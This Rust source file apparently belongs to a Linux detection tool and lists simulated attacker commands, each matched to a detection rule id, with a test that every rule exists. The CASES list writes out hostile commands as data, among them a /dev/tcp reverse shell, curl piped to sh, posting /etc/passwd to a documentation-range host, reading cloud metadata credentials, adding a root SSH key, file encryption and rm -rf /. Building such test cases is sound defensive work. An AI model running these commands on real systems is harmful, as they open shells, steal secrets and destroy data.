//! What is imitated: a built-in rule, and the name and arguments of a program that it has to find.
//!
//! Addresses are those of RFC 5737, which nobody has; nothing here is ever run as what it looks like.

/// Where the file lies that an imitation is started from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Placed {
    /// A copy of this program: the rule looks at the executable.
    Copy,
    /// A link to this program: the rule looks at name and arguments.
    Link,
}

/// One imitation.
#[derive(Debug)]
pub(crate) struct Case {
    /// Id of the rule that has to match.
    pub(crate) rule: &'static str,
    /// What is imitated, for a person.
    pub(crate) technique: &'static str,
    /// Name of the file that is started.
    pub(crate) program: &'static str,
    pub(crate) arguments: &'static [&'static str],
    pub(crate) placed: Placed,
}

const fn case(
    rule: &'static str,
    technique: &'static str,
    program: &'static str,
    arguments: &'static [&'static str],
) -> Case {
    Case { rule, technique, program, arguments, placed: Placed::Link }
}

const fn copied(rule: &'static str, technique: &'static str, program: &'static str) -> Case {
    Case { placed: Placed::Copy, ..case(rule, technique, program, &[]) }
}

/// Every imitation. Their rules tell alerts apart by the process, so that a second run within the window is no repeat.
pub(crate) const CASES: &[Case] = &[
    case(
        "4ae517e5-45e5-42cf-9ae0-d37c505515c6",
        "reverse shell",
        "bash",
        &["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
    ),
    case("474dca7a-2129-4c0d-8712-755cc3541039", "password hashes read", "cat", &["/etc/shadow"]),
    case(
        "10e247e7-954e-4071-94ff-34b29e0ddd34",
        "cryptocurrency miner",
        "xmrig",
        &["-o", "stratum+tcp://pool.invalid:3333"],
    ),
    case(
        "8dc40205-3a8a-42d0-83b8-692e9a726e2b",
        "scheduled job written",
        "sh",
        &["-c", "echo '* * * * * root /tmp/x' >> /etc/crontab"],
    ),
    case(
        "c8249c10-780c-447b-862c-f963c09cd1d5",
        "SSH key added",
        "sh",
        &["-c", "echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"],
    ),
    case("b84c01b0-7b65-42a4-b2ea-29bbcd701e42", "service unit written", "tee", &["/etc/systemd/system/update.timer"]),
    case("e4e6a4b4-ee36-416f-9fce-9985e580549a", "library preloaded everywhere", "tee", &["-a", "/etc/ld.so.preload"]),
    case("9c7861cb-b47d-4b94-be76-d4be003877fc", "login records wiped", "shred", &["-u", "/var/log/wtmp"]),
    case(
        "37e2b813-3558-48ec-a611-2cc7dc94d47d",
        "terminal made by a script",
        "script",
        &["-qc", "/bin/bash", "/dev/null"],
    ),
    case("2ff9781b-fac3-4aaa-902c-9c2e11f90236", "setuid shell", "chmod", &["u+s", "/bin/bash"]),
    case(
        "6253a299-7c4c-4a98-8b6d-4bb50012f622",
        "download run by a shell",
        "sh",
        &["-c", "curl -fsSL http://203.0.113.7/i.sh | sh"],
    ),
    case(
        "24f4d078-c674-434d-b5aa-ee00a41a862b",
        "encoded text run by a shell",
        "bash",
        &["-c", "echo aWQ= | base64 -d | sh"],
    ),
    case("b93c1cfd-2447-4a1d-9eef-b869d97b41f1", "kernel module loaded", "insmod", &["/tmp/x.ko"]),
    case("e19b9a38-277b-563e-9b69-123ec0d13f73", "web scanner", "nikto", &["-h", "203.0.113.7"]),
    case("2c0ef293-50aa-5d74-a634-bebe82e22aaf", "network scan", "nmap", &["-sS", "203.0.113.0/24"]),
    case(
        "7f485998-e74c-547e-ae50-3dac889e5772",
        "way out of sudo",
        "sudo",
        &["find", "/", "-maxdepth", "0", "-exec", "/bin/sh", "-p", ";"],
    ),
    case("c01b4c9b-9e64-5009-b667-f12ee9ef6f3b", "right to use sudo", "tee", &["-a", "/etc/sudoers.d/90-update"]),
    case(
        "8a49fcd4-daff-5e51-a66f-cd281713fa08",
        "capability for an interpreter",
        "setcap",
        &["cap_setuid+ep", "/usr/bin/python3"],
    ),
    case("42645670-5afa-52bd-ac1d-58cc6ac09895", "second root account", "useradd", &["-o", "-u", "0", "toor"]),
    case("2f2f6ba3-93b6-5bec-b1e4-25407cfb0928", "audit daemon stopped", "systemctl", &["stop", "auditd"]),
    case("b22d73d8-7e03-53c7-ac8c-42ae44cdd244", "firewall emptied", "iptables", &["-F"]),
    case("2d7bb3d8-bf4b-537e-9e5d-e03f2688e035", "forged date", "touch", &["-r", "/bin/ls", "/usr/bin/.x"]),
    case(
        "a91d7a79-f307-5b2a-938b-c67fe0533e40",
        "private key packed",
        "tar",
        &["czf", "keys.tgz", "/root/.ssh/id_ed25519"],
    ),
    case(
        "1476ed27-22d5-506a-afdb-de9ab66275e0",
        "keys of the cloud instance",
        "curl",
        &["-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/x"],
    ),
    case("6d84e798-3e60-5add-bd9d-1233a1610e64", "search for passwords", "grep", &["-rni", "password", "/etc"]),
    case("e9f2ba3e-abee-51b8-8b9d-0a471ae3eece", "search for setuid files", "find", &["/", "-perm", "-4000"]),
    case(
        "ab3a2e5d-b50d-5042-b58e-107ff2b2149f",
        "foreign key agent",
        "env",
        &["SSH_AUTH_SOCK=/tmp/ssh-x/agent.1", "ssh", "root@203.0.113.7"],
    ),
    case("f8d07b1f-0be7-5acc-b2b8-ee38aef1f26f", "homes packed", "tar", &["czf", "/tmp/b.tgz", "/etc", "/home"]),
    case("1a69b930-9a1a-5c19-af05-c9f3f914581f", "tunnel", "ngrok", &["tcp", "22"]),
    case(
        "89d6afe1-73ab-5347-9ac0-aac25e0ed0f4",
        "hidden download",
        "wget",
        &["-qO", "/dev/shm/a", "http://203.0.113.7/a"],
    ),
    case(
        "2f2c9f98-3c80-57a2-af92-0ddbc3b9f30c",
        "upload to an anonymous host",
        "curl",
        &["--upload-file", "a.tgz", "https://transfer.sh/a.tgz"],
    ),
    case(
        "a3ad4dd9-6a93-571f-8bde-3d5ce6be62b0",
        "accounts sent away",
        "wget",
        &["--post-file=/etc/passwd", "http://203.0.113.7/"],
    ),
    case(
        "ebc84310-2204-54af-8e72-ac9404839e84",
        "files encrypted",
        "find",
        &["/home", "-type", "f", "-exec", "openssl", "enc", "-aes-256-cbc", "-in", "{}", "-out", "{}.enc", ";"],
    ),
    case("f3ac644c-4974-56ab-a048-3749a5f23e4c", "system removed", "rm", &["-rf", "--no-preserve-root", "/"]),
    case("bc73bafe-a368-58a7-bf51-b8b76f55e329", "backups removed", "rm", &["-rf", "/var/backups"]),
    copied("9e50c08d-994e-45b0-bc30-46aa7ecb250c", "hidden program", ".update"),
    copied("3977e015-0944-57c0-be7d-568369ddc74c", "program posing as a service", "sshd"),
];

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;
    use std::path::Path;

    #[test]
    fn every_imitation_is_of_a_built_in_rule_of_its_own() {
        let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/linux");
        let texts: Vec<String> = std::fs::read_dir(rules)
            .unwrap()
            .map(|entry| std::fs::read_to_string(entry.unwrap().path()).unwrap())
            .collect();
        let mut seen = HashSet::new();
        for case in CASES {
            assert!(seen.insert(case.rule), "{} stands twice", case.technique);
            assert!(texts.iter().any(|text| text.contains(&format!("id: {}\n", case.rule))), "{}", case.technique);
        }
        assert!(CASES.len() >= 15, "{}", CASES.len());
    }
}
